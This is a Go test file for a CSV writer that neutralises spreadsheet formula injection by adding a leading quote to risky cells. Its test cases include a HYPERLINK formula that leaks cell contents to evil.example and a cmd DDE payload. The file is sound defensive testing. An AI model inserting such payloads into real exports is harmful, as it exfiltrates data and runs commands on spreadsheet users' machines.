package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"testing"

	"github.com/coachco2/coachco2/pkg/csvsafe"
)

// Hostile text comes back, read as CSV, with a quote in front; numbers, negative ones included,
// and harmless text come back as they were.
func TestWriterNeutralisesFormulas(t *testing.T) {
	cases := []struct {
		cell csvsafe.Cell
		want string
	}{
		{csvsafe.Text(`=HYPERLINK("https://evil.example/?x="&A1,"Gare")`), `'=HYPERLINK("https://evil.example/?x="&A1,"Gare")`},
		{csvsafe.Text("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
		{csvsafe.Text("+33 5 46 00 00 00"), "'+33 5 46 00 00 00"},
		{csvsafe.Text("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0"},
		{csvsafe.Text("\t=1+1"), "'\t=1+1"},
		{csvsafe.Text("\r=1+1"), "'\r=1+1"},
		{csvsafe.Text("-3.5"), "'-3.5"}, // text stays text
		{csvsafe.Text("Place de Verdun, La Rochelle"), "Place de Verdun, La Rochelle"},
		{csvsafe.Text("a=b"), "a=b"},
		{csvsafe.Text(" =1"), " =1"},
		{csvsafe.Text(""), ""},
		{csvsafe.Number(-3.5), "-3.5"},
		{csvsafe.Number(0), "0"},
		{csvsafe.Number(1234567.125), "1234567.125"},
		{csvsafe.Number(-1e-7), "-0.0000001"},
		{csvsafe.Number(math.Inf(-1)), "'-Inf"},
		{csvsafe.Number(math.Inf(1)), "'+Inf"},
		{csvsafe.Int(-42), "-42"},
		{csvsafe.Empty(), ""},
	}
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf)
	if err := w.Write(csvsafe.Texts("=cmd", "name")...); err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := w.Write(c.cell, csvsafe.Text("x")); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("not valid CSV: %v", err)
	}
	if recs[0][0] != "'=cmd" || recs[0][1] != "name" {
		t.Errorf("header %q", recs[0])
	}
	for i, c := range cases {
		if got := recs[i+1][0]; got != c.want {
			t.Errorf("case %d: cell %q, want %q", i, got, c.want)
		}
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx", "x=1": "x=1", "'=1": "'=1", "": ""} {
		if got := csvsafe.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}
